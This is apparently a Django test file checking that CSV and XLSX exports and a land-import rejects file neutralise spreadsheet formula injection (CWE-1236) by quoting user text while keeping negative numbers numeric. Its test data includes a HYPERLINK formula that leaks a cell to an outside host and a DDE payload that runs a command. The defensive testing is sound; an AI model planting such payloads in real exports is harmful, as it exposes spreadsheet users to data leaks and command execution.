"""Formula injection (CWE-1236): text a user typed never becomes a live formula in a CSV or XLSX export,
through the real export endpoints; numbers, even negative, stay numbers (CNIG layouts stay valid)."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tandem.companies.followup import need_create
from tandem.organizations.models import Role, Visibility
from tandem.organizations.perms import Actor
from tandem.territories.perimeters import perimeter_create
from tests.companies.followup_builders import make_company
from tests.factories import communes_of, epci_org, make_member
from tests.land.inventory_builders import make_site

pytestmark = pytest.mark.django_db
STRASBOURG = "246700488"
HYPERLINK = '=HYPERLINK("http://x?leak="&A2,"Cliquez")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def org():
    return epci_org(STRASBOURG)


@pytest.fixture
def contrib(org):
    return make_member(org, Role.CONTRIBUTEUR)


def _csv_rows(content: bytes | str, delimiter=";") -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_needs_export_xlsx_and_csv_write_payloads_as_inert_text(client, org, contrib):
    actor = Actor.for_user(contrib)
    company = make_company(communes_of(STRASBOURG)[0], name="@SOMME(1+1)")
    for title in (HYPERLINK, DDE, "-2+3", "+33 3 88", "\tTAB", "\rCR", "Titre ordinaire"):
        need_create(actor=actor, owner=org, company=company, topic="financing", title=title)
    client.force_login(contrib)

    response = client.get("/entreprises/besoins/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    titles = {sheet.cell(row=r, column=header.index("intitule") + 1) for r in range(2, sheet.max_row + 1)}
    assert all(cell.data_type == "s" for cell in titles)  # no cell is a formula ("f")
    # XML stores a carriage return as a line feed: compare with line ends normalised.
    assert {c.value.replace("\n", "\r") for c in titles} == {
        "'" + HYPERLINK,
        "'" + DDE,
        "'-2+3",
        "'+33 3 88",
        "'\tTAB",
        "'\rCR",
        "Titre ordinaire",
    }
    names = {
        sheet.cell(row=r, column=header.index("denomination") + 1).value for r in range(2, sheet.max_row + 1)
    }
    assert names == {"'@SOMME(1+1)"}
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)

    rows = _csv_rows(client.get("/entreprises/besoins/export.csv").content)
    column = rows[0].index("intitule")
    assert sorted(r[column] for r in rows[1:]) == sorted(
        ["'" + HYPERLINK, "'" + DDE, "'-2+3", "'+33 3 88", "'\tTAB", "'\rCR", "Titre ordinaire"]
    )


def test_land_csv_exports_neutralise_text_but_keep_negative_numbers(client, org, contrib):
    site = make_site(
        org,
        communes_of(STRASBOURG)[0],
        site_nom=HYPERLINK,
        site_surf_brute=-1.5,
        visibility=Visibility.PRIVATE,
    )
    client.force_login(contrib)

    rows = _csv_rows(client.get(reverse("www:land:download_sites_csv")).content)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["site_nom"] == "'" + HYPERLINK
    assert row["site_surf_brute"] == "-1.5"

    response = client.get(reverse("www:land:download_cnig"), {"format": "csv", "epci": STRASBOURG})
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    cnig = list(csv.DictReader(io.StringIO(archive.read("site-eco.csv").decode("utf-8"))))
    assert [r["site_id"] for r in cnig] == [site.site_id]
    assert cnig[0]["site_nom"] == "'" + HYPERLINK  # a text column of the standard
    assert cnig[0]["site_surf_brute"] == "-1.5"  # a number column keeps its sign, unquoted


def test_perimeter_csv_exports_web_and_api(client, org, contrib):
    perimeter_create(actor=Actor.for_user(contrib), owner=org, name=DDE, members=communes_of(STRASBOURG)[:1])
    client.force_login(contrib)
    web = _csv_rows(client.get("/perimetres/export.csv").content)
    api = _csv_rows(client.get("/api/v1/perimeters/export/").content)
    for rows in (web, api):
        assert rows[0][1] == "nom"
        assert [r[1] for r in rows[1:]] == ["'" + DDE]


def test_land_import_rejects_file_neutralises_the_uploaded_text(tmp_path):
    from tandem.land.services import land_import
    from tests.land.conftest import write_rows
    from tests.land.test_import_files import SETS, SYSTEM, ddt08_rows

    rows = ddt08_rows()
    rows[4]["site_type"] = "friche imaginaire"  # line 6: rejected
    rows[4]["site_nom"] = DDE
    path = tmp_path / "friches.csv"
    write_rows(path, rows)
    report = land_import(paths=[path], actor=SYSTEM, sets=SETS, skip_invalid=True)
    rejects = list(csv.DictReader(io.StringIO(report.rejects_csv), delimiter=";"))
    assert [r["ligne"] for r in rejects] == ["6"]
    assert rejects[0]["site_nom"] == "'" + DDE
